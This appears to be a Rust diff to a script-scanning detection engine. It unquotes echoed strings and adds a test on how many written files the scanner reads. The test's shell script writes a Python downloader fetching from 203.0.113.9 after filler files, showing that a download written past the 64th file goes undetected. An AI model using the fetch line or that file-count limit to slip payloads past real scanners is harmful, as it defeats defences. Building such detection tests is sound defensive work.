@@ -47,6 +47,15 @@ fn raw_echo_text(text: &str) -> Option<String> {
     let after = t.split_once(char::is_whitespace)?.1;
     let end = after.rfind('>')?;
     let body = after[..end].trim_end_matches('>').trim();
+    // One quoted string is written without its quotes.
+    let body = ['\'', '"']
+        .into_iter()
+        .find_map(|q| {
+            body.strip_prefix(q)?
+                .strip_suffix(q)
+                .filter(|b| !b.contains(q))
+        })
+        .unwrap_or(body);
     (!body.is_empty()).then(|| body.to_string())
 }
 
@@ -136,5 +145,32 @@ impl Engine<'_> {
         if depth < super::MAX_DEPTH {
             code::shell_calls(self, lang, src, Some(c), depth + 1);
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    /// Hits in a shell script that writes `fillers` harmless Python files
+    /// and then one that downloads.
+    fn hits_after(fillers: usize) -> usize {
+        let mut text = String::from("#!/bin/sh\n");
+        for n in 0..fillers {
+            text.push_str(&format!("echo 'print({n})' > /tmp/f{n}.py\n"));
+        }
+        text.push_str(
+            "echo 'import urllib.request; urllib.request.urlretrieve(\"http://203.0.113.9/a\", \"/tmp/a\")' > /tmp/get.py\n",
+        );
+        let cat = crate::catalog::get();
+        crate::inspect::script::analyze(cat, "sh", text.as_bytes())
+            .hits
+            .len()
+    }
+
+    #[test]
+    fn at_most_64_written_files_are_read() {
+        // The download written as the 64th file is read; as the 65th, not.
+        let read = hits_after(63);
+        assert!(read > 0);
+        assert!(hits_after(64) < read);
     }
 }
